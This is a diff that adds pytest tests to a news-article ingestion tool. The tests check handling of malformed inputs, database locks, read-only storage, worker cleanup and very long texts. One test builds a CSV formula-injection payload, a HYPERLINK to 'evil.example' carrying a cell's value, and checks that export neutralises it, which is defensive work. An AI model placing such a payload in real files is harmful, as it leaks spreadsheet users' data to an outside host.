@@ -238,3 +238,200 @@ def test_ingest_killed_part_way_then_run_again_stores_every_article_exactly_once
     assert connection.execute("SELECT count(*) FROM (SELECT article_id, start FROM quotes GROUP BY 1, 2 "
                               "HAVING count(*) > 1)").fetchone() == (0,)
     assert connection.execute("SELECT count(DISTINCT article_id) FROM mentions").fetchone() == (1200,)
+
+
+def warc_without_target_uri() -> bytes:
+    from warcio.statusandheaders import StatusAndHeaders
+    from warcio.warcwriter import WARCWriter
+
+    buffer = io.BytesIO()
+    writer = WARCWriter(buffer, gzip=False)
+    http = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
+    record = writer.create_warc_record("http://berita.example/a", "response", http_headers=http,
+                                       payload=io.BytesIO(f"<html><body><p>{NEWS}</p></body></html>".encode()))
+    record.rec_headers.remove_header("WARC-Target-URI")
+    writer.write_record(record)
+    return buffer.getvalue()
+
+
+def test_inputs_that_used_to_abort_the_run_are_named_failures_or_repaired_records(tmp_path):
+    corpus = tmp_path / "kiriman"
+    corpus.mkdir()
+    lines = ["[" * 1000 + "]" * 1000,  # deeper than Python's recursion limit
+             json.dumps({"id": "A \udcff", "title": "Judul \udcff", "text": NEWS}),  # lone surrogates
+             json.dumps({"id": "dalam", "text": NEWS, "lain": json.loads("[" * 40 + "]" * 40)}),
+             json.dumps({"id": "baik", "text": NEWS})]
+    (corpus / "campur.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    (corpus / os.fsdecode(b"nama-\xff.txt")).write_text(NEWS, encoding="utf-8")  # a name that is not UTF-8
+    os.mkfifo(corpus / "pipa.txt")  # opening it would block for ever
+    os.symlink("/dev/zero", corpus / "nol.txt")  # reading it would never end
+    warc = warc_without_target_uri()
+    (corpus / "tanpa-uri.warc").write_bytes(warc)
+    (corpus / "kepala-putus.warc").write_bytes(warc[: warc.index(b"\r\n\r\n") // 2])
+    db = tmp_path / "w.db"
+    started = time.monotonic()
+    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "1"])
+    assert result.exit_code == 0, result.output
+    assert time.monotonic() - started < 120
+    connection = sqlite3.connect(db)
+    stored = {doc_id: title for doc_id, title in connection.execute("SELECT doc_id, title FROM articles")}
+    assert stored == {"A \ufffd": "Judul \ufffd", "baik": None, "nama-\\xff": None}
+    failures = dict(connection.execute("SELECT input, reason FROM failures"))
+    assert failures[f"{corpus}/campur.jsonl:1"] == failures[f"{corpus}/campur.jsonl:3"] == \
+        "JSON nested deeper than 32 levels"
+    assert failures[f"{corpus}/pipa.txt"] == "not a regular file but a named pipe"
+    assert failures[f"{corpus}/nol.txt"] == "not a regular file but a character device"
+    for name in ("tanpa-uri.warc", "kepala-putus.warc"):
+        assert "corrupt WARC" in failures[f"{corpus}/{name}"]
+    assert len(failures) == 6
+
+
+def test_failures_are_counted_but_only_the_first_thousand_kept(tmp_path):
+    corpus = tmp_path / "buruk.jsonl.gz"
+    with gzip.open(corpus, "wt", encoding="utf-8") as handle:
+        handle.write(json.dumps({"id": "baik", "text": NEWS}) + "\n")
+        for number in range(3000):
+            handle.write("{rusak %d\n" % number)
+    db = tmp_path / "w.db"
+    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "1"])
+    assert result.exit_code == 0, result.output
+    said = " ".join(result.output.split())
+    assert "Could not read 3000 input(s)" in said and "the other 2000 only counted" in said
+    connection = sqlite3.connect(db)
+    assert connection.execute("SELECT count(*) FROM failures").fetchone() == (1000,)
+    assert connection.execute("SELECT count(*) FROM articles").fetchone() == (1,)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(start):
+    import csv
+
+    from warta.store import csv_rows
+
+    hostile = start + 'HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    record = {"id": "x", "source": "s", "url": None, "title": hostile, "published": None, "dateline": None,
+              "outlet": None, "language": "id", "cited_sources": [hostile], "duplicate_of": None,
+              "body": start + "SUM(1,2)"}
+    header, row = csv.reader(io.StringIO("".join(csv_rows(iter([record])))))
+    cells = dict(zip(header, row))
+    assert cells["title"] == "'" + hostile and cells["body"] == "'" + start + "SUM(1,2)"
+    assert cells["cited_sources"] == "'" + hostile and cells["id"] == "x"
+
+
+def test_a_second_writer_gets_one_clear_line_not_a_traceback(tmp_path, monkeypatch):
+    import warta.store
+
+    db = tmp_path / "w.db"
+    first = CliRunner().invoke(app, ["ingest", str(EXAMPLES), "--db", str(db), "--workers", "1"])
+    assert first.exit_code == 0, first.output
+    article = tmp_path / "baru.txt"
+    article.write_text(NEWS, encoding="utf-8")
+    monkeypatch.setattr(warta.store, "BUSY_TIMEOUT_MS", 300)
+    holder = sqlite3.connect(db, isolation_level=None)
+    holder.execute("BEGIN IMMEDIATE")  # another writer, mid-transaction
+    try:
+        result = CliRunner().invoke(app, ["ingest", str(article), "--db", str(db), "--workers", "1"])
+    finally:
+        holder.execute("ROLLBACK")
+        holder.close()
+    assert result.exit_code == 2
+    said = " ".join(result.output.split())
+    assert "database is locked" in said and "one writer at a time" in said
+    assert "Traceback" not in result.output and result.exception is None or isinstance(result.exception, SystemExit)
+
+
+def test_a_database_on_a_read_only_filesystem_is_searched_exported_and_served(tmp_path, monkeypatch):
+    import warta.store
+    from fastapi.testclient import TestClient
+
+    from warta.serve import create_app
+
+    folder = tmp_path / "arsip"
+    folder.mkdir()
+    db = folder / "w.db"
+    assert CliRunner().invoke(app, ["ingest", str(EXAMPLES), "--db", str(db), "--workers", "1"]).exit_code == 0
+    assert not (folder / "w.db-wal").exists()
+    os.chmod(db, 0o444)
+    os.chmod(folder, 0o555)
+    real_access = os.access
+    # As root, chmod stops nobody; answer as a read-only filesystem would (EROFS).
+    monkeypatch.setattr(warta.store.os, "access", lambda path, mode: False if mode & os.W_OK and
+                        Path(path).resolve() in (folder.resolve(), db.resolve()) else real_access(path, mode))
+    try:
+        search = CliRunner().invoke(app, ["search", "kerja sama", "--db", str(db)])
+        assert search.exit_code == 0, search.output
+        assert "best match" in search.output
+        export = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "csv"])
+        assert export.exit_code == 0 and "\nid,source,url," in "\n" + export.output
+        client = TestClient(create_app(str(db)))
+        found = client.get("/api/articles", params={"q": "kerja sama"})
+        assert found.status_code == 200 and found.json()["total"] > 0
+        assert client.get("/").status_code == 200
+        assert sorted(p.name for p in folder.iterdir()) == ["w.db"]  # nothing written beside it
+    finally:
+        os.chmod(folder, 0o755)
+
+
+def test_lxml_html_clean_is_a_declared_dependency_and_html_reads():
+    from importlib.metadata import requires
+
+    assert any(requirement.lower().replace("-", "_").startswith("lxml_html_clean") for requirement in requires("warta"))
+    import lxml.html.clean  # noqa: F401  (trafilatura needs it; lxml no longer carries it)
+
+    [article] = run([str(EXAMPLES / "kunjungan-kenegaraan.html")], Options())
+    assert not isinstance(article, Exception) and len(article.cleaned.body) > 200
+
+
+@pytest.mark.slow
+def test_workers_die_with_their_parent_however_it_dies(tmp_path):
+    corpus = write_jsonl(tmp_path / "besar.jsonl", 2000)
+    db = tmp_path / "w.db"
+    process = subprocess.Popen([sys.executable, "-m", "warta", "ingest", str(corpus), "--db", str(db),
+                                "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                               start_new_session=True)
+    deadline = time.monotonic() + 300
+    while count_rows(db) == 0 and process.poll() is None and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert process.poll() is None and len(in_session(process.pid)) >= 3  # ingest, two workers, ...
+    os.kill(process.pid, signal.SIGKILL)
+    process.wait()
+    deadline = time.monotonic() + 10
+    while in_session(process.pid) and time.monotonic() < deadline:
+        time.sleep(0.2)
+    left = in_session(process.pid)
+    try:
+        assert not left, f"still running 10 s after their parent was killed: {left}"
+    finally:
+        for pid in left:
+            os.kill(pid, signal.SIGKILL)
+
+
+def in_session(session: int) -> list[int]:
+    """Live processes of session `session` (zombies, already dead, left out)."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
+        except OSError:
+            continue
+        if int(fields[3]) == session and fields[0] != "Z":  # fields: state, ppid, pgrp, session
+            found.append(int(entry.name))
+    return found
+
+
+@pytest.mark.slow
+def test_an_article_of_more_than_a_million_characters_is_coded_within_its_time_limit(tmp_path):
+    sentence = ("Menteri Luar Negeri Retno Marsudi bertemu Menteri Luar Negeri Jepang di Tokyo pada Senin "
+                "untuk membahas kerja sama maritim kedua negara. ")
+    text = sentence * (1_050_000 // len(sentence))  # one paragraph, over spaCy's 1,000,000 (E088)
+    corpus = tmp_path / "panjang.jsonl"
+    corpus.write_text(json.dumps({"id": "panjang", "text": text}) + "\n", encoding="utf-8")
+    out = tmp_path / "out.jsonl"
+    started = time.monotonic()
+    result = CliRunner().invoke(app, ["extract", str(corpus), "-o", str(out), "--workers", "1", "--time-limit", "120"])
+    assert result.exit_code == 0, result.output
+    assert time.monotonic() - started < 120 * 1.1 + 30  # the limit, 10%, and loading the models
+    [record] = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+    assert len(record["body"]) > 1_000_000 and record["events"]
